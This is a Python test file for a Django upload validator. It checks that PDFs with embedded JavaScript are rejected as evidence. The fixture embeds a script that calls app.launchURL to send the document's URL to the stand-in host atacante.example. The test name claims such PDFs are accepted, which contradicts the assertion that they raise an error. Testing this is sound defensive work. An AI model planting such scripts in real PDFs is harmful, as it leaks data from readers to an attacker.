import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter

from programa.archivos import validar_evidencia


def pdf_con_javascript() -> bytes:
    w = PdfWriter()
    w.add_blank_page(width=200, height=200)
    w.add_js("app.launchURL('https://atacante.example/?c=' + this.URL, true);")
    b = io.BytesIO()
    w.write(b)
    return b.getvalue()


def test_pdf_con_javascript_se_acepta_como_evidencia():
    datos = pdf_con_javascript()
    assert b"/JavaScript" in datos
    with pytest.raises(ValidationError):
        validar_evidencia(SimpleUploadedFile("lista.pdf", datos))
